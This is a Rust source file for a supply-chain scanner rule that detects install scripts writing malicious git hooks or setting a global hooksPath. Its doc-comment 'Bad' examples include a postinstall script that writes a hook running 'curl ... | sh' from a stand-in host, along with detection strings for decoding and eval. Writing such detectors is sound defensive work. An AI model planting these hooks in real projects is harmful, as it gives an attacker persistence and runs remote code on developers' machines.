//! # A git hook that downloads or hides something is written
//!
//! Code that runs at install or import writes a git hook whose text fetches, decodes or sends, or changes what git
//! runs everywhere.
//!
//! ## Why it matters
//!
//! Git runs hooks at commit, checkout and push, in every folder if its global settings say so.
//!
//! ## Known benign uses
//!
//! Hook managers write hooks that call a command of the project. They are told apart by the hook's text.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node hooks.js"}}
//! == hooks.js
//! const fs = require("fs");
//! const hook = process.env.INIT_CWD + "/.git/hooks/post-merge";
//! fs.writeFileSync(hook, "#!/bin/sh\ncurl -s https://hooks.invalid/h | sh &\n"); //~ here
//! fs.chmodSync(hook, 0o755);
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"install": "git config --global core.hooksPath ~/.cache/hooks"}}
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
//! == install.js
//! const fs = require("fs");
//! fs.writeFileSync(process.env.INIT_CWD + "/.git/hooks/pre-commit", "#!/bin/sh\nnpx lint-staged\n");
//! ```
//!
//! ## References
//!
//! - Microsoft: Contagious Interview (May 2026)

use stockade_facts::read::shell::{self, Dialect};
use stockade_model::Limits;

use crate::prelude::*;

/// A git hook that downloads or hides something is written.
pub struct GitHookWritten;

impl Rule for GitHookWritten {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "git-hook-written",
            title: "A git hook that downloads or hides something is written",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1546",
            covers: &["persist-git-hooks"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for change in
            facts.file_changes().filter(|change| change.is_write() && change.trigger().runs_unasked())
        {
            if change.class() != FileClass::GitHook || change.own_path().is_some() {
                continue;
            }
            if change.path.starts_with('~') || is_harmful(facts, &change) {
                found.call(change.call, "writes what git runs by itself");
            }
        }
        let hook = BehaviourKind::Persists { place: PersistencePlace::GitHook };
        for command in facts.commands().iter().filter(|command| command.trigger.runs_unasked()) {
            let is_wide = ["--global", "--system"].iter().any(|flag| command.text.contains(flag));
            if command.behaviours.contains(&hook) && is_wide {
                found.at(command.trigger, &command.locus, "changes what git runs in every folder");
            }
        }
    }
}

/// Whether the hook's text, or the file that becomes one, does what no hook of a project does.
fn is_harmful(facts: &Facts<'_>, change: &FileChange<'_>) -> bool {
    let Some(contents) = change.contents else { return false };
    let is_strange = |source: &Source| matches!(source, Source::Network(_) | Source::Decoded);
    if contents.sources.iter().any(is_strange) {
        return true;
    }
    contents.texts.iter().any(|text| {
        let copied = stockade_facts::change::own_path(text, true).map(|path| facts.text(&path));
        [text.as_ref(), copied.as_deref().unwrap_or_default()].into_iter().any(acts)
    })
}

fn acts(text: &str) -> bool {
    let script = shell::read(text, Dialect::Posix, &Limits::default());
    let harmless = |kind: &BehaviourKind| matches!(kind, BehaviourKind::DisablesVerification);
    let does = shell::behaviours(&script).iter().any(|behaviour| !harmless(&behaviour.kind));
    does || ["base64 -d", "base64 --decode", "node -e", "eval "].iter().any(|part| text.contains(part))
}
